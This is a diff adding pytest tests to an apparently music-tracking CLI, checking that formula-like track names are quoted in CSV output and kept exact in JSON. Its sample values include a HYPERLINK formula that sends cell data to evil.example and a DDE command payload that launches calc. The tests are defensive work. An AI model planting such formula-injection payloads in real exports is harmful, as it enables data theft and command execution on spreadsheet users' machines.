@@ -3,6 +3,7 @@ terminal control sequences (issue #20, finding 3)."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -191,3 +192,49 @@ def test_a_bidirectional_override_in_a_name_is_shown_as_text(
         assert json.loads(result.stdout)["items"][0]["name"] == "A\u202e3 B\u2067C"
     else:
         assert "A\\u202e3 B\\u2067C" in result.stdout
+
+
+FORMULAS = {
+    # name as stored: the CSV cell a spreadsheet must read as text
+    '=HYPERLINK("https://evil.example/?"&A1,"x")': '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "-M-": "'-M-",
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "\uff1d1+1": "'\uff1d1+1",  # a full-width equals sign
+    "+44": "+44",  # a number to a spreadsheet, not a formula
+}
+
+
+@pytest.mark.parametrize("args", [["report", "top", "tracks"], ["search", "1"], ["track", "t0"]])
+def test_csv_names_a_spreadsheet_would_run_are_quoted(
+    runner: CliRunner, hostile_db: str, args: list[str]
+) -> None:
+    """Anyone can publish a track named like a formula; `--format csv` is opened in spreadsheets."""
+    store = open_store(hostile_db, migrate=False)
+    with store.begin() as conn:
+        for i, name in enumerate(FORMULAS):
+            conn.execute(update(tables.tracks).where(tables.tracks.c.id == f"t{i}").values(name=name))
+    store.close()
+    result = runner.invoke(cli, ["--db", hostile_db, "--timezone", "UTC", *args, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    expected = FORMULAS if args[0] != "track" else dict(list(FORMULAS.items())[:1])
+    for name, cell in expected.items():
+        if args[0] == "search" and "1" not in name:
+            continue
+        assert cell in cells, (name, cells)
+        assert name not in cells or name == cell
+    # Numbers stay numbers: the play counts are unquoted.
+    assert not [c for c in cells if c.startswith("'") and c[1:].replace(",", "").isdigit()]
+
+
+def test_json_keeps_a_formula_like_name_exact(runner: CliRunner, hostile_db: str) -> None:
+    store = open_store(hostile_db, migrate=False)
+    with store.begin() as conn:
+        conn.execute(update(tables.tracks).where(tables.tracks.c.id == "t0").values(name="=1+1"))
+    store.close()
+    result = runner.invoke(
+        cli, ["--db", hostile_db, "--timezone", "UTC", "report", "top", "tracks", "--format", "json"]
+    )
+    assert result.exit_code == 0, result.output
+    assert json.loads(result.stdout)["items"][0]["name"] == "=1+1"
